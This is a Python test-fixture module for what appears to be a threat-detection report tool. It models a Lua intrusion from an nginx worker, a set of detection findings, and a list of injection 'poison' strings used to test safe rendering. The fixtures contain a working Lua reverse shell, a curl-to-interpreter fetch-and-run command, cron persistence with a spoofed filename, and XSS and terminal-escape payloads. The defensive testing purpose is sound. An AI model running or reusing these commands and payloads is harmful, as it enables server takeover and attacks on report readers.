"""The cases that the report's tests render: an intrusion with everything in it, an empty one, a hostile one."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from perilune.model.analysis import (
    Analysis,
    Capability,
    Indicator,
    IndicatorKind,
    Layer,
    LayerState,
    Listing,
    Scope,
    Sign,
    Weighed,
)
from perilune.model.answers import Answer, Confidence, Criterion, Escalation, Part, Said, Verdict, Word
from perilune.model.case import Case, Entry, ProcessNode, Status, TimelineEntry
from perilune.model.facts import Coverage, Fact, Facts, Kind, Source
from perilune.model.findings import Context, Explained, Finding, Reason
from perilune.model.rules import Evidence, Level
from perilune.model.sources import Problem, Reading, SourceReport
from perilune.model.tables import EventRef

START = datetime(2026, 11, 21, 17, 4, 12, 310_000, tzinfo=UTC)
GENERATED = datetime(2026, 11, 22, 6, 30, tzinfo=UTC)
VERSION = "0.1.0"

_AUDIT = "exports/web-01/audit.log.1.gz"
_EVE = "exports/sensor/eve.json"
_SHELL = "sh -c 'curl -s http://203.0.113.9/a.lua | lua5.4 -'"
_SOCKET = (
    'lua5.4 -e \'local s=require("socket").tcp() s:connect("203.0.113.9",4444) '
    'while true do local c=s:receive() local p=io.popen(c) s:send(p:read("*a")) end\''
)
_BLOB = "lua5.4 -e 'load((\"" + "".join(f"\\{60 + n * 7 % 190}" for n in range(900)) + "\"):reverse())()'"


def _at(seconds: float) -> datetime:
    return START + timedelta(seconds=seconds)


def _ref(record: int, table: str = "DeviceProcessEvents", source: str = _AUDIT) -> EventRef:
    return EventRef(table, source, record)


def _node(key: str, parent: str | None, depth: int, pid: int, name: str, command: str, *,
          path: str = "", user: str = "www-data", after: float | None = None, record: int = 0,
          findings: tuple[str, ...] = ()) -> ProcessNode:  # fmt: skip
    return ProcessNode(
        key=key, parent=parent, depth=depth, pid=pid, name=name, path=path or f"/usr/bin/{name}",
        command_line=command, user=user, time=None if after is None else _at(after),
        event=_ref(record) if record else None, findings=findings,
    )  # fmt: skip


_CRON = "sh -c 'crontab -l | { cat; echo \"*/5 * * * * lua5.4 /tmp/.k/\u202eaul.gpj\"; } | crontab -'"

TREE = (
    _node("p811", None, 0, 811, "nginx", "nginx: master process /usr/sbin/nginx", path="/usr/sbin/nginx",
          user="root"),
    _node("p8507", "p811", 1, 8507, "nginx", "nginx: worker process", path="/usr/sbin/nginx", after=-86_320.4,
          record=112),
    _node("p8516", "p8507", 2, 8516, "sh", _SHELL, path="/usr/bin/dash", after=0.178, record=4101,
          findings=("f-shell",)),
    _node("p8517", "p8516", 3, 8517, "curl", "curl -s http://203.0.113.9/a.lua", after=0.192, record=4102),
    _node("p8518", "p8516", 3, 8518, "lua5.4", "lua5.4 -", after=0.194, record=4103, findings=("f-pipe",)),
    _node("p8520", "p8518", 4, 8520, "sh", "sh -c 'id; uname -a'", path="/usr/bin/dash", after=0.391, record=4109),
    _node("p8521", "p8520", 5, 8521, "id", "id", after=0.393, record=4110),
    _node("p8522", "p8520", 5, 8522, "uname", "uname -a", after=0.396, record=4111),
    _node("p8530", "p8518", 4, 8530, "lua5.4", _SOCKET, after=0.712, record=4120, findings=("f-socket", "f-connect")),
    _node("p8533", "p8530", 5, 8533, "sh", _CRON,
          path="/usr/bin/dash", after=41.02, record=4151),
    _node("p8540", "p8530", 5, 8540, "lua5.4", _BLOB, after=63.4, record=4188, findings=("f-load",)),
)  # fmt: skip

_NGINX = Context(
    rule_id="5d3c1d52-8a0f-4a53-9e0e-6f2f4a7c9b10",
    title="OpenResty or nginx with the Lua module",
    lowers=10,
    evidence=(Evidence("ParentImage", "InitiatingProcessFolderPath", "/usr/sbin/nginx", "endswith '/nginx'"),),
)


def _finding(id_: str, title: str, level: Level, process: str, **more: object) -> Finding:
    node = next(node for node in TREE if node.key == process)
    parent = next((other for other in TREE if other.key == node.parent), None)
    row: dict[str, object] = {
        "Timestamp": node.time, "DeviceName": "web-01", "ActionType": "ProcessCreated",
        "FileName": node.name, "FolderPath": node.path, "ProcessId": node.pid,
        "ProcessCommandLine": node.command_line, "AccountName": node.user,
        "InitiatingProcessFileName": parent.name if parent else None,
        "InitiatingProcessId": parent.pid if parent else None,
        "XSourceFile": _AUDIT, "XSourceFormat": "auditd", "XPlatform": "linux",
    }  # fmt: skip
    base = Finding(
        id=id_, rule_id=f"b2f5c0de-0000-4000-8000-{abs(sum(map(ord, id_))):012d}", rule_title=title,
        rule_author="Perilune project", level=level, techniques=("T1059.011",), event=node.event or _ref(0),
        host="web-01", user="www-data", time=node.time,
        row={name: value for name, value in row.items() if value is not None},
        evidence=(), score={Level.CRITICAL: 90, Level.HIGH: 72, Level.MEDIUM: 48}[level],
        reasons=(Reason({Level.CRITICAL: 90, Level.HIGH: 72, Level.MEDIUM: 48}[level], f"{level.word} rule: {title}"),),
        process=process, rule_license="Apache-2.0", rule_source="perilune:lua",
    )  # fmt: skip
    return replace(base, **more)  # type: ignore[arg-type]


def analysis_of(text: str, decoded: str, value: str, words: str) -> Analysis:
    """An analysis as a finding carries it: three layers, one without text, a listed indicator, a capability."""
    hit = Listing("corp.json", words, False, date(2026, 10, 1), 51, words)
    return Analysis(
        layers=(
            Layer(0, "given", None, 0, len(text), text, "posix"),
            Layer(1, "argument", 0, 0, len(text), decoded, "lua"),
            Layer(2, "xor", 1, 0, len(decoded), "\x7fELF\x02", "", LayerState.PARTIAL, words, True),
            Layer(3, "secure-string", 1, 0, len(decoded), "", "", LayerState.FAILED, words),
        ),
        commands=(),
        indicators=(
            Indicator(IndicatorKind.IPV4, value, 1, 0, min(4, len(decoded)), scope=Scope.RESERVED, listings=(hit,)),
        ),
        capabilities=(
            Capability("reverse-shell", "Gives somebody at the other end of the network a shell", "remote shell",
                       ("T1059", "T1095"), 5.4, words, (Sign(1, 0, min(40, len(decoded)), decoded[:40], "socket"),)),
            Capability("only-help-asked", "Asks for help", "context", (), -1.5, words, ()),
        ),
        reasons=(Weighed(-3.3, "Most command lines are harmless"), Weighed(5.4, "Gives a shell", "reverse-shell")),
        score=89, level=Level.HIGH, cut=(words,), work=1,
    )  # fmt: skip


FINDINGS = (
    _finding(
        "f-socket", "Lua one-liner opens a socket and feeds it to a shell", Level.CRITICAL, "p8530",
        techniques=("T1059.011", "T1071.001"),
        rule_description="An inline Lua chunk loads a socket library and runs what it receives.\n"
                         "It is the usual shape of a Lua reverse shell.",
        evidence=(
            Evidence("Image", "FolderPath", "/usr/bin/lua5.4", "endswith '/lua5.4'"),
            Evidence("CommandLine", "ProcessCommandLine", _SOCKET, "contains 'require(\"socket\")'"),
            Evidence("CommandLine", "ProcessCommandLine", _SOCKET, "contains 'io.popen('"),
        ),
        score=80,
        reasons=(Reason(90, "critical rule: Lua one-liner opens a socket and feeds it to a shell"),
                 Reason(-10, "known use: OpenResty or nginx with the Lua module")),
        context=(_NGINX,),
        analysis=analysis_of(_SOCKET, _SOCKET[11:-1], "203.0.113.9", "Botnet, seen by the partner"),
        rule_link="https://github.com/perilune-project/perilune/blob/main/src/perilune/content/sigma/lua_socket.yml",
        rule_references=("https://attack.mitre.org/techniques/T1059/011/", "https://lunarmodules.github.io/luasocket/tcp.html"),
        rule_falsepositives=("Network test scripts of administrators", "Load generators that are written in Lua"),
    ),
    _finding(
        "f-pipe", "Lua interpreter reads its program from a pipe", Level.HIGH, "p8518",
        techniques=("T1059.011", "T1105"),
        evidence=(
            Evidence("Image", "FolderPath", "/usr/bin/lua5.4", "re '/lua5\\.[1-5]$'"),
            Evidence("CommandLine", "ProcessCommandLine", "lua5.4 -", "endswith ' -'"),
        ),
        rule_falsepositives=("Build scripts that generate Lua code",),
    ),
    _finding(
        "f-shell", "Web server starts a shell", Level.HIGH, "p8516", techniques=("T1505.003", "T1059.004"),
        rule_author="Thomas Patzke, Florian Roth (Nextron Systems)", rule_license="DRL-1.1",
        rule_source="sigma:proc_creation_lnx_webshell.yml",
        rule_link="https://github.com/SigmaHQ/sigma/blob/master/rules/linux/process_creation/proc_creation_lnx_webshell_detection.yml",
        rule_references=("https://www.acunetix.com/blog/articles/web-shells-101-using-php-introduction-web-shells-part-2/",),
        evidence=(
            Evidence("ParentImage", "InitiatingProcessFolderPath", "/usr/sbin/nginx", "endswith '/nginx'"),
            Evidence("Image", "FolderPath", "/usr/bin/dash", "endswith '/dash'"),
        ),
        rule_falsepositives=("Web applications that invoke Linux command line tools",),
    ),
    _finding(
        "f-load", "Lua runs code that it builds from character codes", Level.HIGH, "p8540",
        techniques=("T1059.011", "T1027.010"),
        evidence=(
            Evidence("CommandLine", "ProcessCommandLine", _BLOB, "contains ':reverse())()'"),
            Evidence("CommandLine", "ProcessCommandLine", _BLOB, "re '(\\\\\\d{1,3}){20,}'"),
        ),
    ),
    _finding(
        "f-connect", "Lua interpreter connects to an address outside", Level.MEDIUM, "p8530",
        techniques=("T1071",), event=_ref(90_112, "DeviceNetworkEvents", _EVE), time=_at(0.731),
        row={"Timestamp": _at(0.731), "DeviceName": "web-01", "ActionType": "ConnectionSuccess",
             "RemoteIP": "203.0.113.9", "RemotePort": 4444, "RemoteUrl": "cdn.updates.example", "Protocol": "Tcp",
             "InitiatingProcessFileName": "lua5.4", "InitiatingProcessId": 8530,
             "InitiatingProcessFolderPath": "/usr/bin/lua5.4",
             "InitiatingProcessSHA256": "9c49c37b5c1f0f6e1b1f1fb5b3a0c3f1c9fb0b1f7d3a4e5f60718293a4b52231",
             "XSourceFile": _EVE, "XSourceFormat": "suricata"},
        evidence=(
            Evidence("Image", "InitiatingProcessFolderPath", "/usr/bin/lua5.4", "endswith '/lua5.4'"),
            Evidence("DestinationIp", "RemoteIP", "203.0.113.9", "cidr 203.0.113.0/24"),
        ),
    ),
)  # fmt: skip


def _event(after: float, action: str, summary: str, record: int, *findings: str,
           table: str = "DeviceProcessEvents", source: str = _AUDIT) -> TimelineEntry:  # fmt: skip
    return TimelineEntry(_at(after), table, action, summary, _ref(record, table, source), findings)


TIMELINE = (
    _event(-86_320.4, "ProcessCreated", "nginx 811 starts nginx 8507: nginx: worker process", 112),
    _event(0, "HttpRequest", "10.0.4.7 requests GET /exec?c=curl%20-s%20http://203.0.113.9/a.lua on web-01", 90_101,
           table="XLogEvents", source=_EVE),
    _event(0.178, "ProcessCreated", f"nginx 8507 starts sh 8516: {_SHELL}", 4101, "f-shell"),
    _event(0.192, "ProcessCreated", "sh 8516 starts curl 8517: curl -s http://203.0.113.9/a.lua", 4102),
    _event(0.194, "ProcessCreated", "sh 8516 starts lua5.4 8518: lua5.4 -", 4103, "f-pipe"),
    _event(0.205, "ConnectionSuccess", "curl 8517 connects to 203.0.113.9 port 80", 90_107,
           table="DeviceNetworkEvents", source=_EVE),
    _event(0.391, "ProcessCreated", "lua5.4 8518 starts sh 8520: sh -c 'id; uname -a'", 4109),
    _event(0.393, "ProcessCreated", "sh 8520 starts id 8521: id", 4110),
    _event(0.396, "ProcessCreated", "sh 8520 starts uname 8522: uname -a", 4111),
    _event(0.712, "ProcessCreated", f"lua5.4 8518 starts lua5.4 8530: {_SOCKET}", 4120, "f-socket"),
    _event(0.731, "ConnectionSuccess", "lua5.4 8530 connects to cdn.updates.example port 4444", 90_112, "f-connect",
           table="DeviceNetworkEvents", source=_EVE),
    _event(41.02, "ProcessCreated", f"lua5.4 8530 starts sh 8533: {_CRON}", 4151),
    _event(63.4, "ProcessCreated", f"lua5.4 8530 starts lua5.4 8540: {_BLOB}", 4188, "f-load"),
)  # fmt: skip

ANSWERS = (
    Answer("t1059.011/unexpected-connection", "T1059.011", Part.QUESTION,
           "Is there an unexpected network connection associated with the Lua script activity?", Said.YES,
           "The case's processes reach outside: lua5.4 connects to 203.0.113.9 port 4444.", Confidence.HIGH,
           source="Is there an unexpected network connection associated with the Lua script activity?",
           accuses=Said.YES, events=(_ref(9071, "DeviceNetworkEvents"), _ref(4130, "DeviceNetworkEvents")),
           findings=("f-connect",)),
    Answer("t1059.011/script-errors", "T1059.011", Part.INDICATOR,
           "Do scripting errors in application logs indicate malicious use?", Said.UNKNOWN,
           "Unknown: needs application logs (error logs of nginx, HAProxy, Redis, Prosody and other hosts of scripts).",
           Confidence.LOW, source="Review of scripting errors in application logs indicating malicious usage.",
           accuses=Said.YES, needs=("application logs",)),
    Answer("t1059.011/credentials", "T1059.011", Part.T2_ACTION, "Were credentials read near the script execution?",
           Said.NO, "No reading of credentials in 9,904 process events of the host near the case.",
           Confidence.MEDIUM, accuses=Said.YES),
)  # fmt: skip

ESCALATION = Escalation(
    Said.YES,
    "Escalate to Tier 2: persistence was planted.",
    (
        Criterion("escalate-known-bad", "Is there confirmed interaction with known malicious infrastructure?",
                  Said.UNKNOWN, "Unknown: needs a list of known bad addresses.", needs=("a list of known bad addresses",)),  # noqa: E501
        Criterion("persistence", "Persistence was planted", Said.YES, "Planted: sh is started with crontab -", ours=True,  # noqa: E501
                  events=(_ref(4140),)),
    ),
)  # fmt: skip

FACTS = Facts(
    found={
        Kind.PERSISTENCE: (
            Fact(Kind.PERSISTENCE, "Cron", f"sh is started with {_CRON}", _CRON, _ref(4140), _at(2.5), "web-01", True),
            Fact(Kind.PERSISTENCE, "Cron", "cron runs run-parts", "run-parts", _ref(4300), _at(90), "web-01", False),
        )
    },
    cut={Kind.PERSISTENCE: 2},
    coverage={Source.PROCESSES: Coverage(9_904, 9_904)},
)

VERDICT = Verdict(
    Word.MALICIOUS,
    Confidence.HIGH,
    "lua5.4, started by sh, named or fetched http://203.0.113.9/a.lua, connected to 203.0.113.9 and planted cron on web-01.",  # noqa: E501
    (
        "the score is 98 and 6 independent rules and answers agree",
        "1 answer speaks for abuse",
        "1 question is open for want of data",
    ),
)

INTRUSION = Case(
    key="web-01/8516@2026-11-21T17:04:12.488Z",
    title="Lua reverse shell from an nginx worker",
    host="web-01",
    users=("www-data", "root"),
    level=Level.CRITICAL,
    score=98,
    reasons=(
        Reason(90, "critical rule: Lua one-liner opens a socket and feeds it to a shell"),
        Reason(-10, "known use: OpenResty or nginx with the Lua module"),
        Reason(18, "4 more rules agree: Lua interpreter connects to an address outside; Lua interpreter reads its "
                   "program from a pipe; Lua runs code that it builds from character codes and 1 more"),
    ),
    techniques=("T1059.011", "T1059.004", "T1505.003", "T1105", "T1027.010", "T1071", "T1071.001"),
    findings=FINDINGS,
    tree=TREE,
    timeline=TIMELINE,
    first=_at(0.178),
    last=_at(63.4),
    id="C-1042",
    status=Status.OPEN,
    tree_cut=3,
    timeline_cut=128,
    hosts=("web-01",),
    facts=FACTS,
    answers=ANSWERS,
    verdict=VERDICT,
    escalation=ESCALATION,
    entries=(
        Entry(1, _at(3600), "perilune", "created", {"score": 92, "findings": 4}),
        Entry(2, _at(3710), "perilune", "updated", {"score": 98, "findings": 5}),
        Entry(3, _at(4000), "mira", "note", {"text": "Host owner called. Nobody tests there. See https://wiki.corp.example/ir"}),
        Entry(4, _at(4010), "mira", "status", {"from": "new", "to": "open"}),
    ),
)  # fmt: skip

SOURCES = (
    SourceReport(_AUDIT, "auditd", Reading.COMPLETE, 48_211, {"DeviceProcessEvents": 9_904, "XLogEvents": 38_102},
                 {"records that only repeat another (EOE, PROCTITLE)": 205}),
    SourceReport(_EVE, "suricata", Reading.PARTIAL, 90_400, {"DeviceNetworkEvents": 61_000, "XLogEvents": 29_399}, {},
                 (Problem("the last line is cut off in the middle", 1, "line 90401"),
                  Problem("a timestamp without a zone, read as UTC", 12, "line 17"))),
    SourceReport("exports/web-01/Security.evtx", "evtx", Reading.UNREADABLE, 0, {}, {},
                 (Problem("the file may not be read (permission denied)"),)),
    SourceReport("exports/notes.docx", "", Reading.UNKNOWN),
)  # fmt: skip

EXPLAINED = (
    Explained(_NGINX, _ref(77), "web-01", "www-data", _at(-4000), "/usr/sbin/nginx", "nginx: worker process"),
    Explained(
        Context("0f3bd5a2-6f6e-4c2a-9d52-2c1a1f7d7a01", "nmap runs its own NSE scripts", 30),
        _ref(812), "scan-02", "ana", _at(-900), "/usr/bin/nmap", "nmap -sV --script default 10.0.4.0/24",
    ),
)  # fmt: skip

EMPTY = Case(
    key="", title="", host="", users=(), level=Level.INFORMATIONAL, score=0, reasons=(), techniques=(),
    findings=(), tree=(), timeline=(), first=None, last=None,
)  # fmt: skip

# What an attacker would write into a log to own the ticket system, the terminal or the reader's eyes.
POISONS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; }} {{ 7*7 }} {% include 'x' %}",
    "</style><style>@import 'http://evil.example/x.css'",
    "</title></code></details>-->]]>",
    "\u202egpj.exe\u202c \u2066x\u2069 zero\u200bwidth\u2060\ufeff",
    "\x1b[2J\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x00\x7f\x9b31m",
    "javascript:alert(1) data:text/html,x http://evil.example/a 198.51.100.7 www.evil.example",
    "| a | b |\n---|---\n# Heading\n- [x] ![i](http://evil.example/i.png) <https://evil.example>",
    "`````\n~~~~\n[click](javascript:alert(1)) **bold** @everyone #1 :smile: $x$ \\",
    "⟨U+202E⟩ \ud800 \U000e0041 \u00a0 \u3164 \u2800 a" + "\u0336" * 30,
    "-- /close\r\n/close\u2028/close\u0085/close",
    "&lt;b&gt; &amp; &#x3C;script&#x3E;",
)


def hostile(poison: str) -> Case:
    """The intrusion with the poison wherever a log or a rule could have put it."""
    ref = EventRef(poison, poison, 1)
    evidence = (Evidence(poison, poison, poison, f"contains '{poison}'"),)
    context = Context(poison, poison, 5, evidence)
    finding = Finding(
        id=poison, rule_id=poison, rule_title=poison, rule_author=poison, level=Level.HIGH, techniques=(poison,),
        event=ref, host=poison, user=poison, time=START,
        row={poison: poison, "RemoteUrl": poison, "FolderPath": poison},
        evidence=evidence, score=60, reasons=(Reason(65, poison), Reason(-5, poison)), context=(context,),
        process=poison,
        rule_description=poison, rule_license=poison, rule_link=poison,
        rule_references=(poison, f"javascript:{poison}"),
        rule_falsepositives=(poison,), rule_source=poison, tags=(poison,),
        analysis=analysis_of(poison, poison, poison, poison),
    )  # fmt: skip
    node = ProcessNode(poison, None, 0, 7, poison, poison, poison, poison, START, ref, (poison,))
    entry = TimelineEntry(START, poison, poison, poison, ref, (poison,), poison)
    answer = Answer(poison, poison, Part.QUESTION, poison, Said.YES, poison, Confidence.LOW, poison, Said.YES, (poison,),  # noqa: E501
                    (ref, replace(ref, record=2)), (poison,))  # fmt: skip
    criterion = Criterion(poison, poison, Said.YES, poison, True, (poison,), (ref,))
    fact = Fact(Kind.PERSISTENCE, poison, poison, poison, ref, START, poison, True, (poison,))
    return Case(
        key=poison, title=poison, host=poison, users=(poison,), level=Level.HIGH, score=60,
        reasons=finding.reasons, techniques=(poison,), findings=(finding,), tree=(node,), timeline=(entry,),
        first=START, last=START, id=poison, entries=(Entry(1, START, poison, poison, {poison: poison}),),
        hosts=(poison, poison), answers=(answer,), verdict=Verdict(Word.UNKNOWN, Confidence.LOW, poison, (poison,)),
        escalation=Escalation(Said.UNKNOWN, poison, (criterion,)), facts=Facts({Kind.PERSISTENCE: (fact,)}),
    )  # fmt: skip


def hostile_sources(poison: str) -> tuple[SourceReport, ...]:
    return (SourceReport(poison, poison, Reading.PARTIAL, 1, {poison: 1}, {poison: 1}, (Problem(poison, 2, poison),)),)


def hostile_explained(poison: str) -> tuple[Explained, ...]:
    context = Context(poison, poison, 5)
    return (Explained(context, EventRef(poison, poison, 1), poison, poison, START, poison, poison),)


LONG = "A" * 600_000 + "</script>\u202e" + "B" * 400_000  # a megabyte in one field
